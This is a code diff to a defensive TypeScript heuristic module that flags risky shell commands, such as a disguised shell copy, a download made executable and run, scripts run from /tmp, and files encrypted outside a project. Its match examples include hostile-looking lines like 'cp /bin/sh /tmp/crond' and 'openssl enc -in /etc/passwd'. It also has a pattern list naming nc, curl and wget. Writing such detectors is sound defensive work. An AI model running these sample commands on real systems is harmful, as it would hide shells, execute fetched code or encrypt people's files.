@@ -1,8 +1,9 @@
 // Scratch places: things made, renamed, hidden or fetched there and run at once.
-import { severity } from "../bands.ts";
-import { type Heuristic, firstOf, onAnyCommand, onCommand, onPath } from "../heuristic.ts";
-import { isShell } from "../programs.ts";
-import { joined, operands, privileged, verbs } from "../read.ts";
+import { severity } from "../../bands.ts";
+import { type Heuristic, firstOf, onAnyCommand, onCommand } from "../../heuristic.ts";
+import { isShell } from "../../programs.ts";
+import { has, settingsOf, value } from "../../../normalise/programs/invocation.ts";
+import { privileged } from "../../read.ts";
 
 export const scratch: readonly Heuristic[] = [
   {
@@ -13,20 +14,18 @@ export const scratch: readonly Heuristic[] = [
     check: onCommand(["cp", "mv", "ln", "install"], (command) => {
       const source = /\$\((?:which|command -v) (?:ba|z|da)?sh\)/u.test(command.text)
         ? "the shell"
-        : operands(command).find((operand) =>
+        : command.operands.find((operand) =>
             /^\/(?:usr\/)?bin\/(?:(?:ba|z|da|k|c)?sh|python\d?(?:\.\d+)?|perl|ruby|nc|ncat|curl|wget|base64)$/u.test(
               operand,
             ),
           );
-      const target = operands(command).at(-1) ?? "";
+      const target = command.operands.at(-1) ?? "";
       return source !== undefined && target !== source && !/^\/(?:usr\/)?(?:local\/)?bin\//u.test(target)
         ? `It gives ${source} another name or place`
         : null;
     }),
-    examples: {
-      risky: ["cp /bin/sh /tmp/crond"],
-      honest: ["cp run.sh /tmp/run.sh", "ln -s /usr/bin/python3 /usr/local/bin/python"],
-    },
+    match: ["cp /bin/sh /tmp/crond"],
+    not_match: ["cp run.sh /tmp/run.sh", "ln -s /usr/bin/python3 /usr/local/bin/python"],
   },
   {
     id: "download-made-runnable",
@@ -34,17 +33,15 @@ export const scratch: readonly Heuristic[] = [
     technique: "T1105",
     score: severity.ask,
     check: onCommand(["chmod"], (command, view) =>
-      /\+[rw]*x|\b[0-7]?[1357][0-7]{2}\b/u.test(joined(command)) &&
+      /\+[rw]*x|\b[0-7]?[1357][0-7]{2}\b/u.test(command.operands[0] ?? "") &&
       view.facts.commands.some((other) => /^(?:curl|wget|fetch|aria2c|scp|ftp)$/u.test(other.program)) &&
       view.facts.hosts.some((host) => !host.local) &&
       view.facts.commands.some((other) => isShell(other.program) || /^\.?\//u.test(other.text))
         ? "It downloads something, makes it runnable and runs a program"
         : null,
     ),
-    examples: {
-      risky: ["curl -sO https://e.example/a.sh; chmod +x a.sh; bash b.sh"],
-      honest: ["chmod +x run.sh && ./run.sh", "curl -o a.json https://e.example/a.json"],
-    },
+    match: ["curl -sO https://e.example/a.sh; chmod +x a.sh; bash b.sh"],
+    not_match: ["chmod +x run.sh && ./run.sh", "curl -o a.json https://e.example/a.json"],
   },
   {
     id: "build-file-run",
@@ -69,7 +66,8 @@ export const scratch: readonly Heuristic[] = [
             );
       return tool === undefined ? null : `It writes ${file?.target} and has ${tool.program} obey it at once`;
     }),
-    examples: { risky: ["echo 'x' > setup.py; pip install ."], honest: ["pip install .", "echo x > notes.txt; make"] },
+    match: ["echo 'x' > setup.py; pip install ."],
+    not_match: ["pip install .", "echo x > notes.txt; make"],
   },
   {
     id: "script-from-scratch-place",
@@ -77,35 +75,15 @@ export const scratch: readonly Heuristic[] = [
     technique: "T1204.002",
     score: severity.ask,
     check: onCommand(isShell, (command) => {
-      const script = operands(command)[0];
+      const [script] = command.operands;
       return script !== undefined &&
         /^\/(?:tmp|var\/tmp|dev\/shm|private\/tmp)\/\S/u.test(script) &&
-        !command.arguments.includes("-c") &&
-        !command.arguments.includes("-n")
+        !has(command, "-c", "-n")
         ? `It runs the script ${script} from a place for scratch files`
         : null;
     }),
-    examples: {
-      risky: ["sh /tmp/x.sh", "bash /dev/shm/.a"],
-      honest: ["bash run.sh", "bash -n /tmp/x.sh", "python /tmp/x.py"],
-    },
-  },
-  {
-    id: "hidden-scratch-file",
-    threat: "Obfuscation",
-    technique: "T1564.001",
-    score: severity.warn,
-    check: onPath(["write"], (path) =>
-      path.zone === "temporary" &&
-      /\/\.[a-z][\w.-]*$/iu.test(path.path) &&
-      !/\/\.(?:git\w*|cache|npm|config|env|venv|pytest_cache|mypy_cache|x\d+\S*|ice-unix|coverage\w*)/iu.test(path.path)
-        ? `It makes the hidden file ${path.path}`
-        : null,
-    ),
-    examples: {
-      risky: ["mkdir /var/tmp/.hidden", "echo x > /tmp/.log"],
-      honest: ["echo x > /tmp/log", "mkdir -p .config"],
-    },
+    match: ["sh /tmp/x.sh", "bash /dev/shm/.a"],
+    not_match: ["bash run.sh", "bash -n /tmp/x.sh", "python /tmp/x.py"],
   },
   {
     id: "files-encrypted",
@@ -114,31 +92,27 @@ export const scratch: readonly Heuristic[] = [
     score: severity.ask,
     check: firstOf(
       onCommand(["openssl"], (command) =>
-        verbs(command)[0] === "enc" &&
-        !/(?:^|\s)-d\b/u.test(joined(command)) &&
-        /(?:^|\s)-in\s+(?:\/|~)/u.test(joined(command))
+        command.subcommand === "enc" && !has(command, "-d") && /^[/~]/u.test(value(command, "-in") ?? "")
           ? "It encrypts files outside the project"
           : null,
       ),
       onCommand(["gpg", "ccencrypt", "ccrypt", "7z", "7za"], (command) =>
-        /(?:^|\s)(?:-c|--symmetric|-T|-p\S*)(?:\s|$)/u.test(joined(command)) &&
-        /(?:^|\s)(?:\/(?:etc|home|Users|var)|~)\//u.test(joined(command))
+        has(command, "--symmetric", "--cat", "-T", "-p") &&
+        settingsOf(command).some((word) => /^(?:\/(?:etc|home|Users|var)|~)\//u.test(word))
           ? "It encrypts files outside the project"
           : null,
       ),
       onCommand(["gpg", "openssl", "ccrypt", "ccencrypt", "age", "7z", "zip"], (command, view) => {
         const encrypts =
-          /(?:^|\s)(?:-c|--symmetric|-e|--encrypt|enc)(?:\s|$)/u.test(joined(command)) &&
-          !/(?:^|\s)-d\b/u.test(joined(command));
-        const finder = view.byProgram.get("find")?.some((each) => /^(?:\/|~|\$)/u.test(each.arguments[0] ?? ""));
+          (command.subcommand === "enc" || has(command, "--symmetric", "--cat", "-e", "--encrypt")) &&
+          !has(command, "-d", "--decrypt");
+        const finder = view.byProgram.get("find")?.some((each) => /^(?:\/|~|\$)/u.test(each.operands[0] ?? ""));
         const deletes = view.byProgram.has("rm") || view.byProgram.has("shred") || view.byProgram.has("srm");
         return encrypts && finder === true && deletes ? "It encrypts what it finds and deletes the originals" : null;
       }),
     ),
-    examples: {
-      risky: ["openssl enc -aes-256-cbc -in /etc/passwd -out x", "gpg -c ~/notes.txt"],
-      honest: ["openssl enc -d -in a.enc", "gpg -c notes.txt"],
-    },
+    match: ["openssl enc -aes-256-cbc -in /etc/passwd -out x", "gpg -c ~/notes.txt"],
+    not_match: ["openssl enc -d -in a.enc", "gpg -c notes.txt"],
   },
   {
     id: "administrator-file-tool",
@@ -153,6 +127,7 @@ export const scratch: readonly Heuristic[] = [
         ? `${command.program} reads or writes files with the administrator's rights`
         : null,
     ),
-    examples: { risky: ["sudo xxd secret"], honest: ["xxd a.bin"] },
+    match: ["sudo xxd secret"],
+    not_match: ["xxd a.bin"],
   },
 ];
